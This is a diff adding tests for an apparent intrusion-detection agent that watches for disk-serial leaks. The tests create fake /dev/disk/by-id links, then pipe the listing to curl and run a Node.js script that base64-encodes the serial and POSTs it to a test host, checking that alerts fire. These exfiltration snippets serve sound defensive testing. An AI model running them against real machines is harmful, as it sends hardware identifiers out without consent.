@@ -270,6 +270,108 @@ def test_udev_entry_rewritten_after_start(host):
         expect_disk_serial_alert(agent.wait_alert(process__comm="curl"), disk, host)
 
 
+BY_ID = "/dev/disk/by-id"
+
+
+class DiskLinks:
+    """/dev/disk/by-id as udev's persistent-storage rules fill it for an ATA disk: links named
+    after its serial (the disk and a partition) and its WWN (this machine runs no udevd and has
+    no /dev/disk). Made before the agent starts, removed on exit link by link (listing the
+    directory to remove it would taint the harness while an agent runs)."""
+
+    def __init__(self):
+        self.serial = "BYI%012X" % random.getrandbits(48)
+        self.wwn = "0x5%015x" % random.getrandbits(60)
+        self.names = ["ata-Acme_Loop_Disk_%s" % self.serial,
+                      "ata-Acme_Loop_Disk_%s-part1" % self.serial, "wwn-%s" % self.wwn]
+        self.made_dirs, self.made_links = [], []
+
+    def __enter__(self):
+        self.tmp = tempfile.mkdtemp(prefix="idsentry-byid-")
+        try:
+            for d in ("/dev/disk", BY_ID):
+                if not os.path.isdir(d):
+                    os.mkdir(d, 0o755)
+                    self.made_dirs.insert(0, d)
+            for name in self.names:
+                link = os.path.join(BY_ID, name)
+                os.symlink("../../loop7", link)
+                self.made_links.append(link)
+        except BaseException:
+            self.__exit__()
+            raise
+        return self
+
+    def __exit__(self, *exc):
+        for link in self.made_links:
+            os.unlink(link)
+        for d in self.made_dirs:
+            os.rmdir(d)
+        shutil.rmtree(self.tmp, ignore_errors=True)
+
+
+def expect_by_id_alert(a, disk, host, encoding="plain"):
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq(["disk-serial"], sorted({i["name"] for i in a["identifiers"]}), "identifiers")
+    expect_eq(BY_ID, a["identifiers"][0]["path"], "the directory the value came from")
+    expect_eq(host.addr, a["destination"]["addr"], "destination.addr")
+    expect_eq(8080, a["destination"]["port"], "destination.port")
+    expect_eq(encoding, a["evidence"]["encoding"], "evidence.encoding")
+
+
+def test_disk_by_id_listing_piped_to_curl(host):
+    """`ls /dev/disk/by-id` (coreutils: openat of the directory, then getdents64) piped to curl:
+    the directory is watched by policies/default.yaml's disk-serial identifier, its opener is
+    tainted at the open and the serials in its names are values."""
+    with DiskLinks() as disk, Agent(DEFAULT) as agent:
+        out = os.path.join(disk.tmp, "ls.out")
+        r = subprocess.run(["sh", "-c", "ls %s | tee %s | curl -s -o /dev/null --max-time 5 "
+                            "--data-binary @- http://%s:8080/by-id" % (BY_ID, out, host.addr)],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)
+        expect_eq(0, r.returncode, "the pipeline's status")
+        with open(out) as f:
+            expect_eq(sorted(disk.names), sorted(f.read().split()), "what ls listed")
+        expect_by_id_alert(agent.wait_alert(process__comm="curl"), disk, host)
+
+
+NODE_BY_ID = """
+const fs = require("fs"), http = require("http");
+const id = fs.readdirSync(process.argv[2]).find(n => n.startsWith("ata-") && !n.includes("-part"));
+const serial = id.split("_").pop();
+const req = http.request({host: process.argv[1], port: 8080, method: "POST", path: "/v1/disk"},
+                         res => { res.resume(); res.on("end", () => process.exit(0)); });
+req.on("error", e => { console.error(e.message); process.exit(1); });
+req.end(Buffer.from(JSON.stringify({disk: serial})).toString("base64"));
+"""
+
+
+BY_ID_POLICY = """version: 1
+identifiers:
+  - name: disk-serial
+    files: [/dev/disk/by-id]
+""" + RULE
+
+
+def test_disk_serial_from_a_by_id_name_posted_by_node(host):
+    """A Node.js program lists /dev/disk/by-id (fs.readdirSync), keeps the serial of the disk's
+    name and posts it base64'd in a JSON body. The directory alone is watched: fanotify is the
+    gate (a mark for the directory's own opens), no open exit waits."""
+    with DiskLinks() as disk, Agent(policy_text=BY_ID_POLICY,
+                                    args=["--hooks-idle", "1", "--stats-interval", "1"]) as agent:
+        expect_eq("fanotify", agent.records()[0]["hooks"].get("gate"), "ready.hooks.gate")
+        agent.wait_for(lambda r: r["type"] == "stats" and not r["hooks"]["syscalls_attached"] and
+                       not r["hooks"]["detaching"], timeout=15, what="the hooks away")
+        err = os.path.join(disk.tmp, "node.err")
+        with open(err, "w") as e:
+            p = subprocess.Popen(["node", "-e", NODE_BY_ID, host.addr, BY_ID],
+                                 stdout=subprocess.DEVNULL, stderr=e)
+            expect_eq(0, p.wait(timeout=30), "node's exit status (%s)" % err)
+        expect_by_id_alert(agent.wait_alert(process__pid=p.pid), disk, host, encoding="base64")
+        woken = agent.wait_for(lambda r: r["type"] == "stats" and r["hooks"]["wakes"] >= 1,
+                               what="a stats record counting the wake")
+        expect(woken["hooks"]["attaches"] >= 1, "the opener brought the hooks: %r" % woken["hooks"])
+
+
 def sysfs_disk_serial():
     """A block device's serial file in sysfs that holds one (virtio's /sys/block/vda/serial, a
     SCSI or NVMe device's device/serial), or (None, None) after saying the test is skipped."""
